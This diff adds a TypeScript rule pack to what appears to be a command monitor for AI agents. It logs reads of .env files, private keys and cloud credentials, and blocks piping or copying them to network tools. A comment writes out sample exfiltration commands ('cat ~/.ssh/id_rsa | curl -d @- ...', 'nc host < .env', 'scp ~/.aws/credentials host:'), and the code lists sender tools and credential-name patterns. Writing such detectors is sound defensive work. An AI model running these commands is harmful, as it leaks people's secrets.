@@ -1,0 +1,82 @@
+import type { Invocation } from '../shell/ir';
+import { argValues } from '../shell/ir';
+import type { Finding, Rule, RulePack } from './rule';
+import { isSecretPath } from './secretFiles';
+
+/**
+ * Secrets through the shell. Reading them (`cat .env`, `printenv`, `grep -r TOKEN`) is recorded as
+ * secret access: a low score, logged but not asked about, since agents read configuration all day.
+ * Sending them to the network (`cat ~/.ssh/id_rsa | curl -d @- ...`, `nc host < .env`, `scp
+ * ~/.aws/credentials host:`) is exfiltration and is stopped. The PocketOS agent found its token in an
+ * unrelated file; the record shows where a token came from.
+ */
+
+const READERS = new Set(['cat', 'tac', 'less', 'more', 'head', 'tail', 'bat', 'batcat', 'strings', 'xxd', 'od', 'hexdump', 'base64', 'nl', 'sed', 'awk', 'jq', 'yq', 'source', '.', 'cut', 'sort', 'uniq', 'grep', 'egrep', 'rg', 'ag', 'tar', 'gzip', 'zip', 'openssl', 'gpg', 'cp', 'python', 'python3', 'node', 'ruby']);
+const ENV_DUMPERS = new Set(['printenv', 'env', 'export', 'set', 'declare']);
+const SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'ssh', 'scp', 'sftp', 'rsync', 'mail', 'mailx', 'sendmail', 'http', 'https', 'xh', 'telnet', 'ftp', 'tftp']);
+// A recursive search for credentials by name or by shape (AWS access key ids start with AKIA).
+const SECRET_PATTERN = /(TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|PRIVATE KEY|AKIA|CREDENTIAL|BEARER)/i;
+
+/** What secret an invocation reads, in words, or undefined. */
+function readsSecret(invocation: Invocation): string | undefined {
+  const args = argValues(invocation);
+  const name = invocation.name;
+  if (ENV_DUMPERS.has(name)) {
+    // `env CMD` runs a command and `export X=1` sets; only the bare forms print the environment.
+    const bare = args.filter((arg) => !arg.startsWith('-')).length === 0;
+    if (name === 'printenv' || (bare && (name === 'env' || args.includes('-p') || (name !== 'export' && args.length === 0)))) return 'the environment variables, tokens included';
+    return undefined;
+  }
+  if (!READERS.has(name)) return undefined;
+  const file = args.find((arg) => !arg.startsWith('-') && isSecretPath(arg)) ?? args.map((arg) => /^--?[\w-]+=(.+)$/.exec(arg)?.[1]).find((value) => value !== undefined && isSecretPath(value));
+  if (file) return file;
+  const input = invocation.redirects.find((redirect) => redirect.op === '<' && isSecretPath(redirect.target.value));
+  if (input) return input.target.value;
+  if (['grep', 'egrep', 'rg', 'ag'].includes(name) && args.some((arg) => /^-[a-zA-Z]*[rR]|^--recursive$/.test(arg) || name !== 'grep') && args.some((arg) => !arg.startsWith('-') && SECRET_PATTERN.test(arg))) {
+    return 'credentials, by searching files for them';
+  }
+  return undefined;
+}
+
+/** The secret a pipeline feeding this program reads, following the pipe back through filters. */
+function pipedSecret(invocation: Invocation, depth = 0): string | undefined {
+  const stdin = invocation.stdin;
+  if (!stdin || stdin.kind !== 'pipe' || depth > 6) return undefined;
+  return readsSecret(stdin.producer) ?? pipedSecret(stdin.producer, depth + 1);
+}
+
+const secretRead: Rule = {
+  id: 'secrets.read',
+  programs: [...READERS, ...ENV_DUMPERS],
+  description: 'Reading secrets through the shell (.env files, private keys, cloud credentials, the environment): logged as secret access.',
+  check({ invocation }): Finding | undefined {
+    const secret = readsSecret(invocation);
+    if (!secret) return undefined;
+    return { rule: 'secrets.read', score: 25, message: `${invocation.name} reads ${secret}: recorded as secret access` };
+  },
+};
+
+const secretSend: Rule = {
+  id: 'secrets.exfiltrate',
+  programs: [...SENDERS],
+  description: 'Secrets sent to the network: piped into or redirected to curl, nc, ssh, mail; secret files copied to other hosts.',
+  check({ invocation }): Finding | undefined {
+    const piped = pipedSecret(invocation);
+    if (piped) return { rule: 'secrets.exfiltrate.pipe', score: 85, message: `${invocation.name} sends ${piped} to the network` };
+    const redirected = invocation.redirects.find((redirect) => redirect.op === '<' && isSecretPath(redirect.target.value));
+    if (redirected) return { rule: 'secrets.exfiltrate.redirect', score: 85, message: `${invocation.name} sends the secrets in ${redirected.target.value} to the network` };
+    if (['scp', 'rsync', 'sftp'].includes(invocation.name)) {
+      const args = argValues(invocation);
+      const remote = args.some((arg) => /^[^/\s]+:/.test(arg) && !arg.startsWith('-'));
+      const file = args.find((arg) => !arg.startsWith('-') && !/^[^/\s]+:/.test(arg) && isSecretPath(arg));
+      if (remote && file) return { rule: 'secrets.exfiltrate.copy', score: 85, message: `${invocation.name} copies the secrets in ${file} to another host` };
+    }
+    return undefined;
+  },
+};
+
+export const SECRETS_PACK: RulePack = {
+  id: 'secrets',
+  description: 'Secret access (logged) and secrets sent to the network (stopped).',
+  rules: [secretRead, secretSend],
+};
